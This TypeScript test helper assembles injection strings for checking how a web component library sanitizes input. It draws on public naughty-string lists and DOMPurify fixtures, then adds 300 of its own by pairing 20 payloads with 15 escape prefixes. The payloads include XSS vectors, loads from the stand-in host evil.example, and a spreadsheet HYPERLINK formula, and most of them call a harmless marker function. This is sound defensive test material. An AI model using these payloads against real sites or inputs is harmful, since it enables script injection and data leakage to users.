/** Strings of attackers: two public collections, used as data only, and our own. */
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';

const require = createRequire(import.meta.url);

/** `big-list-of-naughty-strings`, and the inputs of DOMPurify 0.8's own tests. */
export function publicStrings(): string[] {
  const naughty = require('big-list-of-naughty-strings') as string[];
  const fixtures = require('dompurify-fixtures/test/fixtures/expect.js') as { payload: string }[];
  const suite = readFileSync(require.resolve('dompurify-fixtures/test/test-suite.js'), 'utf8');
  const inputs = [...suite.matchAll(/sanitize\(\s*'((?:[^'\\\n]|\\.)*)'/g)].map(([, text]) =>
    text!.replaceAll("\\'", "'"),
  );
  const all = [...naughty, ...fixtures.map(({ payload }) => payload), ...inputs];
  // A blank text stands for an absent value, and is shown as one.
  return [...new Set(all.filter((text) => text.trim()))];
}

/** What ran tells `wfRan`; a page that runs one of ours says which. */
const DEEDS = [
  '<img src=x onerror=wfRan(1)>',
  '<svg onload=wfRan(2)>',
  '<script>wfRan(3)</script>',
  '<iframe srcdoc="<script>parent.wfRan(4)</script>">',
  '<a href="javascript:wfRan(5)" autofocus onfocus=wfRan(5)>x</a>',
  '<style>@import "https://evil.example/a.css"; *{background:url(https://evil.example/b)}</style>',
  '<link rel=stylesheet href=https://evil.example/c.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action=https://evil.example/><button autofocus onfocus=wfRan(6)>x</button></form>',
  '<wf-provider base-url=https://evil.example><wf-incident-list></wf-incident-list></wf-provider>',
  '<template shadowrootmode=open><img src=x onerror=wfRan(7)></template>',
  '<base href=https://evil.example/><script src=d.js></script>',
  '<img src=https://evil.example/e.png>',
  'javascript:wfRan(8)',
  'https://evil.example/?q=<img src=x onerror=wfRan(9)>',
  '[evil](javascript:wfRan(10)) ![x](https://evil.example/f.png)',
  '=HYPERLINK("https://evil.example/g","x")',
  '${wfRan(11)}{{wfRan(11)}}<%= wfRan(11) %>',
  '<?lit$123456789$><!--lit$123456789$--><img src=x onerror=wfRan(12)>',
  '\ud800<img src=x onerror=wfRan(13)>\udfff',
];

/** What comes before, to leave the place that the text is put into. */
const EXITS = [
  '',
  '">',
  "'>",
  '"><!--',
  '-->',
  '</title></textarea></style></script>',
  '" onmouseover="wfRan(14)" x="',
  '</template></slot>',
  '\u202e\u2066\u0000',
  '`',
  ']]>',
  '__proto__',
  'toString ',
  '&lt;&#60;&quot;&gt;',
  `${'\u200b'.repeat(300)}`,
];

/** Three hundred of our own: every deed behind every way out. */
export const ownStrings: readonly string[] = EXITS.flatMap((exit) => DEEDS.map((deed) => exit + deed));
